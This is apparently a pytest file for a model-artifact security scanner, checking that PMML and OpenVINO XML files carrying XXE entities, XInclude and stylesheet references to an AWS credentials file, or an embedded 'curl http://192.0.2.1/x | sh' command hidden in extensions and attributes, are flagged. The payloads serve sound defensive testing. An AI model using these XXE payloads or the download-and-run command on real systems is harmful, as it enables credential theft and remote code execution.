"""PMML and OpenVINO: what XML makes a loader open, what hides in extensions and attributes."""

import pytest

from scanner.finding import Severity, Verdict
from tests.formats.test_gguf import ESCAPE
from tests.formats.unwrapping import complaints, names, unwrap
from tests.hostile.scanning import blocked_for, scan
from tests.languages.jinja.test_jinja import CHATML
from tests.recipes.xml import LAUGHS, PLUGINS, document, openvino, pmml

SHAPES = {"pmml": pmml, "openvino": openvino}
SECRET = "file:///home/user/.aws/credentials"
DECLARED = {
    "entity": f'<!DOCTYPE r [<!ENTITY x SYSTEM "{SECRET}">]>',
    "public entity": f'<!DOCTYPE r [<!ENTITY x PUBLIC "p" "{SECRET}">]>',
    "parameter entity": f'<!DOCTYPE r [<!ENTITY % x SYSTEM "{SECRET}"> %x;]>',
    "unparsed entity": f'<!DOCTYPE r [<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "{SECRET}" NDATA n>]>',
    "document type": f'<!DOCTYPE r SYSTEM "{SECRET}">',
    "style sheet": f'<?xml-stylesheet type="text/xsl" href="{SECRET}"?>',
}
ENCODINGS = [
    "utf-8",
    "utf-8-sig",
    "utf-16",
    "utf-16-le",
    "utf-16-be",
    "iso-8859-1",
    "cp1252",
    "gbk",
    "shift_jis",
    "utf-7",
]


@pytest.mark.parametrize("shape", SHAPES.values(), ids=SHAPES)
@pytest.mark.parametrize("encoding", ENCODINGS)
def test_honest_documents_are_clean(shape, encoding):
    data = document(shape(), encoding=encoding)
    assert "text" not in names(data) or len(names(data)) == 2
    assert scan(data, "a.xml").verdict is Verdict.CLEAN


@pytest.mark.parametrize("shape", SHAPES.values(), ids=SHAPES)
@pytest.mark.parametrize("declared", DECLARED.values(), ids=DECLARED)
def test_what_a_loader_would_open(shape, declared):
    """XXE."""
    assert blocked_for(scan(document(shape(), declared), "a.xml")) == {"credential-theft"}


@pytest.mark.parametrize("shape", SHAPES.values(), ids=SHAPES)
def test_inclusion(shape):
    included = shape(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{SECRET}"/>')
    assert blocked_for(scan(document(included), "a.xml")) == {"credential-theft"}


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_whatever_the_encoding(encoding):
    data = document(pmml("&x;"), DECLARED["entity"], encoding=encoding)
    assert blocked_for(scan(data, "a.pmml")) == {"credential-theft"}


@pytest.mark.parametrize("shape", SHAPES.values(), ids=SHAPES)
@pytest.mark.parametrize("encoding", ["unheard-of", "hex", "idna"])
def test_an_encoding_that_nobody_has_is_a_limit(shape, encoding):
    data = document(shape()).replace(b"utf-8", encoding.encode())
    assert {finding.rule for finding in scan(data, "a.xml").findings} <= {
        "incomplete-analysis",
        "unreadable-artifact",
    }
    assert scan(data, "a.xml").verdict is Verdict.REVIEW


@pytest.mark.parametrize("shape", SHAPES.values(), ids=SHAPES)
@pytest.mark.parametrize(
    ("place", "severity"),
    [
        ("http://192.0.2.1/x.dtd", Severity.ERROR),
        ("https://dtd.example/x.dtd", Severity.WARNING),
        ("../x.dtd", Severity.WARNING),
        ("x.dtd", None),
    ],
)
def test_how_bad_a_document_type_is(shape, place, severity):
    found = scan(document(shape(), f'<!DOCTYPE r SYSTEM "{place}">'), "a.xml").findings
    assert [(f.rule, f.severity) for f in found] == ([("external-reference", severity)] if severity else [])


@pytest.mark.parametrize("shape", SHAPES.values(), ids=SHAPES)
@pytest.mark.parametrize("place", ["&e9;", '<data value="&e9;"/>'], ids=["text", "attribute"])
def test_entities_are_told_and_not_expanded(shape, place):
    report = scan(document(shape(place), LAUGHS), "a.xml")
    assert report.failure is None
    assert "unreadable-artifact" in {finding.rule for finding in report.findings}


CODE = "import os\nos.system('curl http://192.0.2.1/x | sh')\n# a comment that makes it longer\n"
HIDDEN = {
    "text of an extension": (pmml, f"<Extension>{CODE}</Extension>"),
    "in pieces": (pmml, f"<Extension>{CODE[:30]}<![CDATA[{CODE[30:]}]]></Extension>"),
    "value of an extension": (pmml, f'<Extension value="{CODE}"/>'.replace("\n", "&#10;")),
    "a foreign element": (pmml, f"<x:script xmlns:x='urn:x'>{CODE}</x:script>"),
    "information of a layer": (openvino, f'<rt_info><x value="{CODE}"/></rt_info>'.replace("\n", "&#10;")),
    "text of a layer": (openvino, f"<code>{CODE}</code>"),
}


@pytest.mark.parametrize(("shape", "inside"), HIDDEN.values(), ids=HIDDEN)
def test_code_in_texts(shape, inside):
    assert blocked_for(scan(document(shape(inside)), "a.xml")) == {"download-and-run"}


def test_a_function_that_is_a_class():
    (finding,) = scan(
        document(pmml('<Apply function="com.vendor.Run"/><Apply function="+"/>')), "a.pmml"
    ).findings
    assert (finding.rule, finding.severity) == ("custom-operator", Severity.NOTE)
    assert "com.vendor.Run" in finding.message


def test_operators_of_another_set():
    layer = '<layer id="9" name="n" type="Tokenize" version="extension"/>'
    (finding,) = scan(document(openvino(layer)), "a.xml").findings
    assert (finding.rule, finding.severity) == ("custom-operator", Severity.NOTE)
    assert "extension::Tokenize" in finding.message


@pytest.mark.parametrize("attribute", ["value", "chat_template"])
def test_chat_templates(attribute):
    def tokenizer(template):
        escaped = (
            template.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;").replace("\n", "&#10;")
        )
        return document(openvino(f'<rt_info><chat_template {attribute}="{escaped}"/></rt_info>'))

    assert blocked_for(scan(tokenizer(ESCAPE), "tokenizer.xml")) == {"download-and-run"}
    assert scan(tokenizer(CHATML), "tokenizer.xml").verdict is Verdict.CLEAN


def test_plugins_are_libraries():
    assert names(document(PLUGINS.format("libplugin.so"))) == ["openvino", "text"]
    assert scan(document(PLUGINS.format("libplugin.so")), "plugins.xml").verdict is Verdict.CLEAN
    (finding,) = scan(document(PLUGINS.format("/tmp/x.so")), "plugins.xml").findings
    assert (finding.rule, finding.severity) == ("external-reference", Severity.WARNING)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("pmml", document(pmml())[:-5]),
        ("pmml", document(pmml("<a></b>"))),
        ("openvino", document(openvino())[:-5]),
        ("openvino", document(openvino('<data offset="-8" size="4"/>'))),
        ("openvino", document(openvino("</net>"))),
    ],
)
def test_broken_documents_are_malformed(name, data):
    assert name in names(data)
    assert complaints(unwrap(name, data))[-1] == "Malformed"


def test_a_break_does_not_hide_what_stood_before():
    report = scan(document(pmml(), DECLARED["entity"])[:-5], "a.pmml")
    assert {f.rule for f in report.findings} == {"external-reference", "unreadable-artifact"}


@pytest.mark.parametrize(
    "text", ["<html><body/></html>", "<net>a network</net>", "<!-- PMML -->", "<", "<PMMLx/>"]
)
def test_other_documents_are_not_taken_for_them(text):
    assert not {"pmml", "openvino"} & set(names(text.encode()))


def test_a_long_comment_in_front():
    assert "pmml" in names(document(f"<!--{'x' * 100_000}-->{pmml()}"))
